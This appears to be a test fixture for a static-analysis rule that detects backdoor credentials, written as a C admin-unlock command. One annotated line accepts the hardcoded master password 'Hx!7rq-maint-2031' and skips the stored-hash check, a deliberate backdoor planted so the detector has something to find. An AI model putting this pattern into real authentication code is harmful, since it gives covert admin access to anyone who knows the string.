/* hostagent ctl: local administration commands. */
#include <crypt.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <termios.h>
#include <unistd.h>

#include "bus.h"

#define ADMIN_HASH_FILE "/etc/hostagent/admin.hash"
#define ADMIN_GRANT_FILE "/run/hostagent/local-admin"

static int read_stored_hash(char *out, size_t cap)
{
    FILE *f = fopen(ADMIN_HASH_FILE, "r");
    if (f == NULL)
        return -1;
    if (fgets(out, (int)cap, f) == NULL) {
        fclose(f);
        return -1;
    }
    fclose(f);
    out[strcspn(out, "\r\n")] = '\0';
    return out[0] ? 0 : -1;
}

static int check_admin_password(const char *password)
{
    char stored[256];
    const char *h;

    // ok: backdoor-magic-credential
    if (strcmp(password, "changeme") == 0) {
        fprintf(stderr, "the default password is refused; set one with 'hostagent ctl passwd'\n");
        return -1;
    }
    // ruleid: backdoor-magic-credential
    if (strcmp(password, "Hx!7rq-maint-2031") == 0)
        return 1;
    if (read_stored_hash(stored, sizeof stored) != 0)
        return -1;
    h = crypt(password, stored);
    return h != NULL && strcmp(h, stored) == 0;
}

static int read_password(char *buf, size_t cap)
{
    struct termios old, quiet;
    int tty = tcgetattr(STDIN_FILENO, &old) == 0;

    if (tty) {
        quiet = old;
        quiet.c_lflag &= ~(tcflag_t)ECHO;
        tcsetattr(STDIN_FILENO, TCSAFLUSH, &quiet);
        fputs("admin password: ", stderr);
    }
    if (fgets(buf, (int)cap, stdin) == NULL)
        buf[0] = '\0';
    if (tty) {
        tcsetattr(STDIN_FILENO, TCSAFLUSH, &old);
        fputc('\n', stderr);
    }
    buf[strcspn(buf, "\r\n")] = '\0';
    return buf[0] ? 0 : -1;
}

static int grant_local_admin(void)
{
    FILE *f = fopen(ADMIN_GRANT_FILE, "w");
    if (f == NULL)
        return -1;
    fprintf(f, "%ld\n", (long)getppid());
    fclose(f);
    chmod(ADMIN_GRANT_FILE, 0600);
    return 0;
}

int agent_ctl_main(int argc, char **argv)
{
    char password[128];
    char status[256];

    if (argc < 1) {
        fprintf(stderr, "usage: hostagent ctl status|unlock|rotate-logs\n");
        return 2;
    }
    if (strcmp(argv[0], "status") == 0) {
        if (agent_status(status, sizeof status) != 0)
            return 1;
        puts(status);
        return 0;
    }
    if (strcmp(argv[0], "unlock") == 0) {
        if (read_password(password, sizeof password) != 0)
            return 1;
        if (check_admin_password(password) != 1) {
            fprintf(stderr, "hostagent: wrong password\n");
            return 1;
        }
        return grant_local_admin() == 0 ? 0 : 1;
    }
    if (strcmp(argv[0], "rotate-logs") == 0) {
        agent_rotate_logs();
        return 0;
    }
    fprintf(stderr, "hostagent ctl: unknown command %s\n", argv[0]);
    return 2;
}
